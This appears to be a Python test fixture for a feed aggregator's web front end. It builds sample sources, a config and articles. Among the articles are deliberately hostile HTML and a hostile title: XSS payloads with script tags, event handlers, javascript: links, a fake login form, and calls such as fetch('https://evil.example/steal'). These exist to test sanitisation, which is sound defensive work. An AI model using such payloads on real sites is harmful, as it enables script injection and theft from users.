"""What stands in the library that the browser visits."""

import logging
from datetime import timedelta
from pathlib import Path

from aggregator import log
from aggregator.config.load import load
from aggregator.core.pulse import Pulse
from aggregator.core.source import Source
from aggregator.ingest.workers import Workers
from aggregator.store.database import Database
from aggregator.web.desk import Desk
from aggregator.web.metrics import Metrics
from aggregator.web.monitoring import Watch
from aggregator.web.recent import Recent
from tests.store.records import LONG, NOW, an_entry, an_outcome, failure, settled
from tests.web.library import Library

SOURCES = (
    Source(id="paper", url="https://paper.example/feed", name="The Paper"),
    Source(id="chaoxi", url="https://chaoxi.example/feed", name="潮汐快讯"),
    Source(id="wild", url="https://wild.example/feed", name="Wild & <b>bold</b>"),
    Source(id="down", url="https://down.example/feed", name="Down"),
)
FEEDS = """# What the library is made of.
[web]
edit = true

[outputs.news]
title = "互联互通 · Interconnection"
description = "What is connected with what."
any = ["互联互通", "open*", "re:(inter|cross)connect"]  # one of them
none = ["spam"]

[outputs.all]
title = "Everything"

[outputs.empty]
title = "Nothing yet"
any = ["nothing has this"]
"""
PULSE = Pulse(since_tick=0.4, polls=3, pages=0, pings=0, is_paused=False)
HOSTILE_TITLE = '"><img src=x onerror="window.hacked=1"><script>window.hacked=2</script>'
# What a publisher, or whoever broke into one, may write. None of it may act.
HOSTILE = """<p onclick="window.hacked=3" onmouseover="window.hacked=4">Hover</p>
<script>window.hacked=5; fetch("https://evil.example/steal")</script>
<script src="https://evil.example/x.js"></script>
<img src="https://evil.example/pixel.gif" onerror="window.hacked=6">
<img srcset="https://evil.example/2x.png 2x" src="https://evil.example/1x.png" alt="">
<svg onload="window.hacked=7"><script>window.hacked=8</script></svg>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.hacked=9</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<picture><source srcset="https://evil.example/s.webp"><img src="https://evil.example/s.png"></picture>
<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css";
body { display: none }</style>
<div style="background:url(https://evil.example/bg.png);position:fixed;inset:0">cover</div>
<form action="https://evil.example/login"><input name="password"><button>Log in</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<a href="javascript:window.hacked=10">js</a><a href="data:text/html,<script>1</script>">data</a>
<a href="https://evil.example/" target="_top" ping="https://evil.example/ping">link</a>
<h1 id="main" class="top">Big</h1><table background="https://evil.example/t.png"><tr><td>x</table>
</main></body><p>after"""


def library_in(folder: Path, workers: Workers) -> Library:
    """Make the site, with nothing in it; its feeds.toml is in the folder."""
    file = folder / "feeds.toml"
    file.write_text(FEEDS, "utf-8")
    desk = Desk(path=file, workers=workers, may_write=True)
    return Library(folder, load(file).outputs, SOURCES, desk=desk, watch=watch_with_a_past())


def watch_with_a_past() -> Watch:
    """Give what is watched of a daemon that has polled a little and met an error."""
    watch = Watch(Metrics(), Recent(str), lambda: PULSE)
    logger = logging.getLogger("aggregator.test.shelves")
    logger.handlers[:], logger.propagate = [watch.recent], False
    logger.setLevel(logging.INFO)
    for number in range(5):
        log.event(logger, "poll", source="paper", status="ok", new=number, seconds=0.25)
    error = "no answer within 30 s"
    log.event(logger, "poll", level=logging.WARNING, source="down", status="timeout", seconds=30.0,
              error=error)  # fmt: skip
    log.event(logger, "publish", output="news", articles=73)
    log.event(logger, "store", level=logging.ERROR, error="the database cannot be written")
    return watch


def fill(library: Library) -> None:
    """Bring many articles to go through, a Chinese one, copies, a change, hostile ones."""
    library.add(
        *(
            an_entry(
                f"Open network {number}",
                content=f"<p>Number {number} of a series about open protocols.</p>",
                published=NOW - timedelta(hours=5 * number + 1),
            )
            for number in range(70)
        )
    )
    library.add(
        an_entry(
            "四种即时通讯协议互联互通",
            content='<h2>规则</h2><p>协议之间<b>互联</b>互通。</p><ul><li>一</li></ul>'
            '<p><img src="https://cdn.example/1.png" alt="两组圆环"></p>',
            language="zh",
        ),
        an_entry("Twice told", content=LONG),
        source="chaoxi",
    )  # fmt: skip
    library.add(an_entry("Told twice", content=LONG, link="https://paper.example/twice"))
    changed = LONG.replace("word7 ", "seven ").replace("word30", "thirty")
    library.add(an_entry("Told twice", content=changed, link="https://paper.example/twice"))
    library.add(
        an_entry("Hostile open body", content=HOSTILE),
        an_entry(HOSTILE_TITLE, content="<p>open</p>", guid="hostile-title"),
        source="wild",
    )
    library.write_files("link", "tags", "matched")
    database = Database(library.path)
    database.sync_sources(SOURCES)
    settled(database, failure(source="down"))
    for number in range(40):
        at = NOW - timedelta(hours=40 - number)
        seconds = 0.2 + number % 7 / 10
        settled(database, an_outcome(at=at, seconds=2 * seconds, answered_in=seconds))
    database.close()
